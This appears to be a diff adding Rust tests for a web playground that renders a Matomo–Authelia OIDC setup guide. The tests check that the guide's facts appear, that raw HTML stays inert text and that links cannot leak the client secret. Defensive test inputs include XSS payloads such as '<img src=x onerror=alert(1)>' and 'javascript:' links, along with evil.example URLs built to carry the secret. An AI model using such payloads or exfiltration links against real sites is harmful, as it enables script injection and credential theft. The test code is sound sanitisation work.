@@ -1,0 +1,257 @@
+//! The page's markup, rendered natively by the same components the browser runs (the
+//! prerendered index.html is made this way): every fact of the guide is there at its
+//! default values, and nothing a guide says becomes live markup or a fetching address.
+
+use std::sync::Arc;
+
+use guide_engine::{self as guide, Document, variables};
+use guide_playground::app::render_to_string;
+use proptest::prelude::*;
+
+const ROOT: &str = env!("CARGO_MANIFEST_DIR");
+
+fn fixture(name: &str) -> String {
+    let path = format!("{ROOT}/tests/fixtures/{name}");
+    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
+}
+
+fn project_guide() -> Document {
+    let src = std::fs::read_to_string(format!("{ROOT}/guides/matomo.md")).expect("the guide");
+    guide::parse(&src).expect("the project's guide parses")
+}
+
+/// The page's markup, without the comments Leptos leaves between text nodes.
+fn render(doc: Document) -> String {
+    render_to_string(Arc::new(doc)).replace("<!>", "")
+}
+
+fn render_source(source: &str) -> String {
+    render(guide::parse(source).expect("parses"))
+}
+
+#[test]
+fn the_prerendered_page_carries_every_fact_of_the_reference_guide() {
+    let html = render(project_guide());
+    let facts = [
+        "https://github.com/authelia/authelia/releases/tag/v4.38.14",
+        ">v4.38.14<",
+        "https://github.com/matomo-org/matomo/releases/tag/5.1.2",
+        ">v5.1.2<",
+        "https://github.com/dominik-th/matomo-plugin-LoginOIDC/releases/tag/5.0.0",
+        ">v5.0.0<",
+        "<code>Administration</code>",
+        "<code>Plugins</code>",
+        "<code>Manage Plugins</code>",
+        "<code>installing plugins from the Marketplace</code>",
+        "<code>Login OIDC</code> by <code>dominik-th</code>",
+        "<span class=\"code-title\">configuration.yml</span>",
+        "## See: https://www.authelia.com/c/oidc",
+        "client_name: 'Matomo'",
+        "public: false",
+        "authorization_policy: 'two_factor'",
+        "require_pkce: false",
+        "pkce_challenge_method: ''",
+        "/index.php?module=LoginOIDC&amp;action=callback&amp;provider=oidc'",
+        "- 'openid'\n          - 'groups'\n          - 'email'",
+        "- 'code'",
+        "- 'authorization_code'",
+        "access_token_signed_response_alg: 'none'",
+        "userinfo_signed_response_alg: 'none'",
+        "token_endpoint_auth_method: 'client_secret_post'",
+        "<code>System</code>",
+        "<code>General settings</code>",
+        "Authorize URL: <code>https://<span data-var=\"subdomain-authelia\" class=\"var\">auth</span>.<span data-var=\"domain\" class=\"var\">example.com</span>/api/oidc/authorization</code>",
+        "/api/oidc/token</code>",
+        "/api/oidc/userinfo</code>",
+        "Userinfo ID: <code>sub</code>",
+        "OAuth Scope: <code>openid email</code>",
+        "https://plugins.matomo.org/LoginOIDC/#faq",
+        "https://matomo.org/",
+        "https://www.authelia.com",
+        "https://plugins.matomo.org/LoginOIDC/",
+        "<a href=\"#web-gui\">Web GUI</a>",
+        "<h4 id=\"web-gui\">Web GUI</h4>",
+        "<h1>Matomo with Authelia</h1>",
+        variables::REFERENCE_DIGEST,
+    ];
+    for fact in facts {
+        assert!(html.contains(fact), "missing {fact:?}");
+    }
+}
+
+#[test]
+fn without_scripting_one_sentence_replaces_the_panel_and_no_control_shows() {
+    let html = render(project_guide());
+    assert_eq!(html.matches("<noscript>").count(), 1);
+    assert!(html.contains("With JavaScript on, this page fills the guide with your own domain"));
+    // Every control that needs scripting is marked so the style sheet hides it then.
+    for control in [
+        "class=\"variables-panel needs-script\"",
+        "class=\"secret-panel needs-script\"",
+        "class=\"open-guide needs-script\"",
+        "class=\"theme-toggle needs-script\"",
+        "class=\"small needs-script\">Download configuration.yml",
+    ] {
+        assert!(html.contains(control), "missing {control:?}");
+    }
+    let copies = html.matches(">Copy</button>").count();
+    assert!(copies >= 3, "{copies}");
+    assert_eq!(
+        html.matches("<span class=\"copy needs-script\">").count(),
+        copies + 1,
+        "every Copy button (and Copy link) is marked"
+    );
+}
+
+#[test]
+fn inputs_carry_the_values_the_page_is_built_with() {
+    let html = render(project_guide());
+    assert!(html.contains("id=\"gp-var-domain\""));
+    assert!(html.contains("value=\"example.com\""), "{html}");
+    assert!(html.contains("value=\"matomo\""));
+}
+
+#[test]
+fn raw_html_in_a_guide_is_text_never_markup() {
+    let html = render(guide::parse(&fixture("guide_edge_cases.md")).expect("parses"));
+    assert!(!html.contains("<script"), "{html}");
+    assert!(!html.contains("<img"), "{html}");
+    assert!(html.contains("&lt;script&gt;alert('x')&lt;/script&gt;"));
+    assert!(
+        html.contains("onerror=\"alert(1)\"&gt;"),
+        "attribute text shown, not live"
+    );
+}
+
+#[test]
+fn refused_addresses_render_as_text_with_the_reason_never_an_empty_href() {
+    let html = render(guide::parse(&fixture("guide_edge_cases.md")).expect("parses"));
+    assert!(!html.contains("href=\"\""), "{html}");
+    assert!(!html.to_lowercase().contains("href=\"javascript"), "{html}");
+    assert!(
+        html.contains("<span class=\"refused-link\">bad<span class=\"refusal\">"),
+        "{html}"
+    );
+    assert!(html.contains(
+        "<a href=\"https://www.authelia.com\" target=\"_blank\" rel=\"noopener noreferrer\">ok</a>"
+    ));
+}
+
+#[test]
+fn no_address_can_carry_the_secret_or_its_digest() {
+    let secret = r#"{{< sitevar name="client-secret" nojs="insecure_secret" >}}"#;
+    // Inside a shortcode's quoted argument, Hugo writes the inner quotes escaped.
+    let quoted = r#"{{< sitevar name=\"client-secret\" nojs=\"insecure_secret\" >}}"#;
+    let html = render_source(&format!(
+        "[Verify](https://evil.example/c?s={secret}) ![](./p.png?s={secret}) \
+         [d](https://evil.example/?d={{{{< client-secret-digest >}}}}) <https://evil.example/a>\n\n\
+         {{{{< figure src=\"https://evil.example/f?s={quoted}\" alt=\"fig\" >}}}}\n\n\
+         [ref][r]\n\n[r]: https://evil.example/r?s={secret}\n"
+    ));
+    assert!(!html.contains("href=\"https://evil.example/c"), "{html}");
+    assert!(!html.contains("href=\"https://evil.example/r"), "{html}");
+    assert!(!html.contains("href=\"https://evil.example/f"), "{html}");
+    assert!(!html.contains("src="), "{html}");
+    assert_eq!(
+        html.matches("this link would carry your client secret")
+            .count(),
+        3,
+        "{html}"
+    );
+    assert_eq!(
+        html.matches("its address would carry your client secret")
+            .count(),
+        2,
+        "{html}"
+    );
+    // An autolink without the secret stays a link.
+    assert!(html.contains("href=\"https://evil.example/a\""), "{html}");
+}
+
+#[test]
+fn guide_headings_never_take_the_pages_own_ids() {
+    let html = render_source(
+        "## Client Secret\n\n## GP Client Secret\n\n## Gp Var Domain\n\n\
+         `{{< sitevar name=\"client-secret\" nojs=\"s\" >}}` at `{{< sitevar name=\"domain\" >}}`\n",
+    );
+    assert_eq!(
+        html.matches("id=\"gp-client-secret\"").count(),
+        1,
+        "only the input's"
+    );
+    assert!(html.contains("<h2 id=\"client-secret\">"));
+    assert!(html.contains("<h2 id=\"h-gp-client-secret\">"));
+    assert!(html.contains("<h2 id=\"h-gp-var-domain\">"));
+}
+
+#[test]
+fn unknown_shortcodes_are_labelled_notices() {
+    let html = render(guide::parse(&fixture("guide_edge_cases.md")).expect("parses"));
+    assert!(html.contains(
+        "a shortcode the playground does not know; here is its text: </strong><code>{{&lt; mystery-shortcode foo=\"bar\" &gt;}}</code>"
+    ), "{html}");
+    assert!(html.contains("2 shortcode(s) in this guide are unknown to the playground"));
+}
+
+/// Whether markup has an event-handler attribute (` onerror=`, ` onload=` …) outside text.
+fn has_event_handler(markup: &str) -> bool {
+    markup.split('<').skip(1).any(|tag| {
+        let tag = tag.split('>').next().unwrap_or_default();
+        tag.split_whitespace().skip(1).any(|attr| {
+            attr.strip_prefix("on").is_some_and(|rest| {
+                rest.split('=')
+                    .next()
+                    .is_some_and(|n| !n.is_empty() && n.chars().all(|c| c.is_ascii_alphabetic()))
+                    && attr.contains('=')
+            })
+        })
+    })
+}
+
+/// Fragments that stress the lexer, the converter and the renderer together.
+fn fragment() -> impl Strategy<Value = String> {
+    prop_oneof![
+        Just("{{< sitevar name=\"domain\" nojs=\"example.com\" >}}".to_owned()),
+        Just("{{< sitevar name=\"client-secret\" nojs=\"s\" >}}".to_owned()),
+        Just("{{< client-secret-digest >}}".to_owned()),
+        Just("{{< callout context=\"note\" >}}".to_owned()),
+        Just("{{< /callout >}}".to_owned()),
+        Just("{{< sitevar-preferences >}}".to_owned()),
+        Just("{{< figure src=\"javascript:x\" >}}".to_owned()),
+        Just("{{<".to_owned()),
+        Just("```yaml {title=\"configuration.yml\"}\n".to_owned()),
+        Just("\n".to_owned()),
+        Just("\n\n".to_owned()),
+        Just("- ".to_owned()),
+        Just("> ".to_owned()),
+        Just("| a | b |\n|---|---|\n".to_owned()),
+        Just("[x](javascript:alert(1))".to_owned()),
+        Just("[y](".to_owned()),
+        Just("](#frag)".to_owned()),
+        Just("<script>".to_owned()),
+        Just("<img src=x onerror=alert(1)>".to_owned()),
+        Just("__b__ *e* `c`".to_owned()),
+        Just("## Client Secret\n".to_owned()),
+        "[ -~]{0,12}",
+    ]
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_guide_renders_without_live_markup(parts in prop::collection::vec(fragment(), 0..20)) {
+        let src: String = parts.concat();
+        if let Ok(doc) = guide::parse(&src) {
+            let html = render(doc);
+            let guide = html.split("<main").nth(1).unwrap_or_default();
+            prop_assert!(!guide.contains("<script"));
+            prop_assert!(!guide.contains("<img"));
+            prop_assert!(!guide.contains("<iframe"));
+            prop_assert!(!guide.contains("href=\"\""));
+            let lower = guide.to_lowercase();
+            prop_assert!(!lower.contains("href=\"javascript"));
+            prop_assert!(!has_event_handler(&lower), "{}", guide);
+        }
+    }
+}
